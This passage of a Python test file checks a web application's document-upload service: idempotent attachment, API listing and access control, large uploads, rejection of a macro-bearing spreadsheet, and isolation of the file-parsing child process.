    need = need_of(firm)
    data = {"subject_ref": f"financing.need:{need.pk}", "kind": "licence", "idempotency_key": "k" * 32, "next": "/"}
    for _press in range(2):
        client_as("xuan").post("/documents/attach/", {**data, "file": upload("合同.pdf", pdf())})
    assert (Attachment.objects.count(), Document.objects.count()) == (1, 1)


def test_the_api_takes_lists_and_hands_out(firm, client_as):
    need = need_of(firm)
    client, ref = client_as("xuan"), f"financing.need:{need.pk}"
    body = {"subject_ref": ref, "kind": "contract", "label": "购销合同"}
    made = client.post(
        "/api/v1/documents/", {**body, "file": upload("合同.pdf", pdf())}, headers={"Idempotency-Key": "key-of-this-one"}
    )
    assert made.status_code == 201, made.content
    listed = client.get("/api/v1/documents/", {"subject_ref": ref}).json()
    assert [one["label"] for one in listed] == ["购销合同"]
    key = listed[0]["document_id"]
    assert client.get(f"/api/v1/documents/{key}").json()["sha256"] == hashlib.sha256(pdf()).hexdigest()
    assert client.get(f"/api/v1/documents/{key}/content")["Content-Disposition"].startswith("attachment;")
    assert client_as("t_firm_xiling").get("/api/v1/documents/", {"subject_ref": ref}).status_code == 404
    again = client.post(
        "/api/v1/documents/", {**body, "file": upload("合同.pdf", pdf())}, headers={"Idempotency-Key": "key-of-this-one"}
    )
    assert (again.status_code, again.json()["id"]) == (201, made.json()["id"])  # a repeat, whatever its boundary
    large = "金额,100\n".encode() * 700_000
    taken = client.post(
        "/api/v1/documents/", {**body, "file": upload("流水.csv", large)}, headers={"Idempotency-Key": "a-large-one"}
    )
    assert (taken.status_code, taken.json()["size"] > 7_000_000) == (201, True)  # above what a plain body may be
    client.post(f"/api/v1/documents/attachments/{taken.json()['id']}/detach")
    bad = client.post(
        "/api/v1/documents/", {**body, "file": upload("报表.xlsx", _vba())}, headers={"Idempotency-Key": "another-key"}
    )
    assert (bad.status_code, bad.json()["code"]) == (409, "JM-DOC-005")
    off = client.post(f"/api/v1/documents/attachments/{listed[0]['id']}/detach")
    assert off.status_code == 200 and client.get("/api/v1/documents/", {"subject_ref": ref}).json() == []


def test_reading_a_hostile_file_cannot_take_the_server_along(firm):
    """The child has a memory limit and no Django: it can die, the request is answered."""
    import subprocess
    import sys

    from jinmai.foundation.kernel.documents import child

    loaded = subprocess.run(
        [sys.executable, "-I", "-c", f"import runpy, sys; runpy.run_path({str(child.PROGRAM)!r}); print('django' in sys.modules)"],
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert loaded.stdout.strip() == "False"
    with zipfile.ZipFile(io.BytesIO(sheet())) as book:
        assert book.testzip() is None
    with pytest.raises(Refusal, match="JM-DOC-006"):
        child.ask("inspect", Path("/nowhere"), "png", max_pixels=1)
